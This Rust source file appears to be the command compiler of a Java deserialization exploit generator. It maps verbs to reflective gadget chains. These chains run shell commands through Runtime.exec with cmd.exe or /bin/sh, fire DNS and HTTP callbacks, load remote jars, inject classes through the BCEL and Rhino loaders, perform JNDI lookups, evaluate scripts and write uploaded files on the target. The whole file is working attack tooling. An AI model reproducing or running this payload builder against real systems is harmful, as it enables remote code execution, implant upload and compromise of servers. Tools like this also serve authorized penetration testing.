//! Command compiler
//!
//! Turns a `verb:argument` command into the [`OperationChain`] that, when
//! replayed by the target runtime, performs the requested side effect.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use gadgetforge_core::Verb;
use std::path::Path;

use crate::bcel;
use crate::classpath::{self, ClassPath, known};
use crate::error::{Error, Result};
use crate::ir::{ChainBuilder, Operation, OperationChain, Primitive, TypeRef, Value};
use crate::parser::CommandSpec;

/// Script engine tag used by the scripting verbs
pub const SCRIPT_ENGINE: &str = "js";

/// Base64 decoder that tolerates missing padding and stray characters
const LENIENT_BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Compiles command strings into operation chains
#[derive(Debug, Clone, Default)]
pub struct CommandCompiler {
    class_path: ClassPath,
}

impl CommandCompiler {
    /// Create a compiler resolving candidate classes against `class_path`
    pub fn new(class_path: ClassPath) -> Self {
        Self { class_path }
    }

    /// Compile a command string
    pub fn compile(&self, command: &str) -> Result<OperationChain> {
        let spec = CommandSpec::parse(command)?;
        let chain = self.compile_spec(&spec)?;
        tracing::debug!(
            verb = %spec.verb,
            steps = chain.len(),
            "compiled command"
        );
        Ok(chain)
    }

    /// Compile an already-parsed command
    pub fn compile_spec(&self, spec: &CommandSpec) -> Result<OperationChain> {
        let verb = spec.verb;
        let arg = spec.raw_argument.as_str();

        match verb {
            Verb::Sleep => {
                let seconds: i32 = arg.trim().parse().map_err(|e| Error::InvalidArgument {
                    verb,
                    message: format!("'{arg}' is not a number of seconds: {e}"),
                })?;
                let millis = seconds.checked_mul(1000).ok_or_else(|| Error::InvalidArgument {
                    verb,
                    message: format!("{seconds} seconds overflows"),
                })?;
                Ok(static_call(
                    known::THREAD,
                    "sleep",
                    vec![TypeRef::Primitive(Primitive::Long)],
                    vec![Value::Long(i64::from(millis))],
                )
                .finish())
            }

            Verb::Dnslog => Ok(static_call(
                known::INET_ADDRESS,
                "getAllByName",
                vec![TypeRef::string()],
                vec![Value::str(arg)],
            )
            .finish()),

            Verb::Httplog => Ok(OperationChain::seeded(Value::class(known::URL))
                .then(Operation::get_constructor(vec![TypeRef::string()]))
                .then(Operation::construct(Value::object_array(vec![Value::str(arg)])))
                .then(Operation::call("getContent", vec![], vec![]))
                .finish()),

            Verb::RawCmd => Ok(runtime_exec(TypeRef::string(), Value::str(arg))),

            Verb::WinCmd => Ok(runtime_exec(
                TypeRef::string().array_of(),
                Value::string_array(["cmd.exe", "/c", arg]),
            )),

            Verb::LinuxCmd => Ok(runtime_exec(
                TypeRef::string().array_of(),
                Value::string_array(["/bin/sh", "-c", arg]),
            )),

            Verb::Bcel => self.bcel_load(arg.to_string(), None),

            Verb::BcelClassFile => {
                let class_bytes = read_file(arg)?;
                self.bcel_load(bcel::encode_class(&class_bytes)?, None)
            }

            Verb::BcelWithArgs => {
                let parts = spec.segments()?;
                self.bcel_load(parts[0].to_string(), Some(parts[1]))
            }

            Verb::BcelClassFileWithArgs => {
                let parts = spec.segments()?;
                let class_bytes = read_file(parts[0])?;
                self.bcel_load(bcel::encode_class(&class_bytes)?, Some(parts[1]))
            }

            Verb::ScriptFile => {
                let script = String::from_utf8_lossy(&read_file(arg)?).into_owned();
                Ok(script_eval(script))
            }

            Verb::ScriptBase64 => {
                let script = String::from_utf8_lossy(&decode_base64(verb, arg)?).into_owned();
                Ok(script_eval(script))
            }

            Verb::UploadFile => {
                let parts = spec.segments()?;
                let (source, destination) = (parts[0], parts[1]);
                Ok(file_write(destination, read_file(source)?))
            }

            Verb::UploadFileBase64 => {
                let parts = spec.segments()?;
                let (destination, content) = (parts[0], parts[1]);
                Ok(file_write(destination, decode_base64(verb, content)?))
            }

            Verb::Loadjar => {
                let parts = spec.segments()?;
                let url = jar_url(verb, parts[0])?;
                Ok(url_class_loader(url, parts[1])
                    .then(Operation::instantiate())
                    .finish())
            }

            Verb::LoadjarWithArgs => {
                let parts = spec.segments()?;
                let url = jar_url(verb, parts[0])?;
                Ok(url_class_loader(url, parts[1])
                    .then(Operation::get_constructor(vec![TypeRef::string()]))
                    .then(Operation::construct(Value::object_array(vec![Value::str(
                        parts[2],
                    )])))
                    .finish())
            }

            Verb::MozillaDefiningClassLoader => {
                let parts = spec.segments()?;
                let (class_name, encoded) = (parts[0], parts[1]);
                let class_bytes = decode_base64(verb, encoded)?;
                let loader = self
                    .class_path
                    .resolve_first(&classpath::RHINO_DEFINING_CLASS_LOADER)?;

                Ok(OperationChain::seeded(Value::Class(loader))
                    .then(Operation::get_declared_constructor(vec![]))
                    .then(Operation::construct(Value::object_array(vec![])))
                    .then(Operation::call(
                        "defineClass",
                        vec![
                            TypeRef::string(),
                            TypeRef::Primitive(Primitive::Byte).array_of(),
                        ],
                        vec![Value::str(class_name), Value::Bytes(class_bytes)],
                    ))
                    .then(Operation::get_declared_constructor(vec![]))
                    .then(Operation::construct(Value::object_array(vec![])))
                    .finish())
            }

            Verb::Jndi => Ok(OperationChain::seeded(Value::class(known::INITIAL_CONTEXT))
                .then(Operation::get_constructor(vec![]))
                .then(Operation::construct(Value::object_array(vec![])))
                .then(Operation::call(
                    "lookup",
                    vec![TypeRef::string()],
                    vec![Value::str(arg)],
                ))
                .finish()),
        }
    }

    /// `new BCELClassLoader().loadClass(name)`, then either the no-arg
    /// instance or a single-`String` constructor call
    fn bcel_load(&self, class_name: String, ctor_arg: Option<&str>) -> Result<OperationChain> {
        let loader = self
            .class_path
            .resolve_first(&classpath::BCEL_CLASS_LOADER)?;

        let loaded = OperationChain::seeded(Value::Class(loader))
            .then(Operation::get_constructor(vec![]))
            .then(Operation::construct(Value::string_array(Vec::<String>::new())))
            .then(Operation::call(
                "loadClass",
                vec![TypeRef::string()],
                vec![Value::Str(class_name)],
            ));

        let chain = match ctor_arg {
            None => loaded.then(Operation::instantiate()),
            Some(arg) => loaded
                .then(Operation::get_constructor(vec![TypeRef::string()]))
                .then(Operation::construct(Value::string_array([arg]))),
        };
        Ok(chain.finish())
    }
}

/// `Class.getMethod(name, types).invoke(null, args)`
fn static_call(
    class: &str,
    method: &str,
    param_types: Vec<TypeRef>,
    args: Vec<Value>,
) -> ChainBuilder {
    OperationChain::seeded(Value::class(class))
        .then(Operation::get_method(method, param_types))
        .then(Operation::invoke_static(args))
}

/// `Runtime.getRuntime().exec(command)`
fn runtime_exec(param: TypeRef, command: Value) -> OperationChain {
    static_call(known::RUNTIME, "getRuntime", vec![], vec![])
        .then(Operation::call("exec", vec![param], vec![command]))
        .finish()
}

/// `new ScriptEngineManager().getEngineByName("js").eval(script)`
fn script_eval(script: String) -> OperationChain {
    OperationChain::seeded(Value::class(known::SCRIPT_ENGINE_MANAGER))
        .then(Operation::get_constructor(vec![]))
        .then(Operation::construct(Value::object_array(vec![])))
        .then(Operation::call(
            "getEngineByName",
            vec![TypeRef::string()],
            vec![Value::str(SCRIPT_ENGINE)],
        ))
        .then(Operation::call(
            "eval",
            vec![TypeRef::string()],
            vec![Value::Str(script)],
        ))
        .finish()
}

/// `new FileOutputStream(destination).write(content)`
fn file_write(destination: &str, content: Vec<u8>) -> OperationChain {
    OperationChain::seeded(Value::class(known::FILE_OUTPUT_STREAM))
        .then(Operation::get_constructor(vec![TypeRef::string()]))
        .then(Operation::construct(Value::object_array(vec![Value::str(
            destination,
        )])))
        .then(Operation::call(
            "write",
            vec![TypeRef::Primitive(Primitive::Byte).array_of()],
            vec![Value::Bytes(content)],
        ))
        .finish()
}

/// `new URLClassLoader(new URL[]{url}).loadClass(className)`
fn url_class_loader(url: Value, class_name: &str) -> ChainBuilder {
    let url_type = TypeRef::class(known::URL);
    OperationChain::seeded(Value::class(known::URL_CLASS_LOADER))
        .then(Operation::get_constructor(vec![url_type.clone().array_of()]))
        .then(Operation::construct(Value::object_array(vec![Value::Array {
            component: url_type,
            items: vec![url],
        }])))
        .then(Operation::call(
            "loadClass",
            vec![TypeRef::string()],
            vec![Value::str(class_name)],
        ))
}

/// Validate that a jar location carries a URL scheme
fn jar_url(verb: Verb, spec: &str) -> Result<Value> {
    let scheme = spec.split_once(':').map(|(s, _)| s).unwrap_or_default();
    let valid = scheme
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic())
        && scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    if !valid {
        return Err(Error::InvalidArgument {
            verb,
            message: format!("no protocol: {spec}"),
        });
    }
    Ok(Value::Url(spec.to_string()))
}

/// Characters outside the base64 alphabet are skipped, so placeholder
/// arguments such as `{{param1}}` still decode to a byte template.
fn decode_base64(verb: Verb, text: &str) -> Result<Vec<u8>> {
    let compact: String = text
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/'))
        .collect();
    LENIENT_BASE64
        .decode(compact)
        .map_err(|source| Error::InvalidBase64 { verb, source })
}

fn read_file(path: &str) -> Result<Vec<u8>> {
    std::fs::read(Path::new(path)).map_err(|source| Error::ReadFile {
        path: path.to_string(),
        source,
    })
}
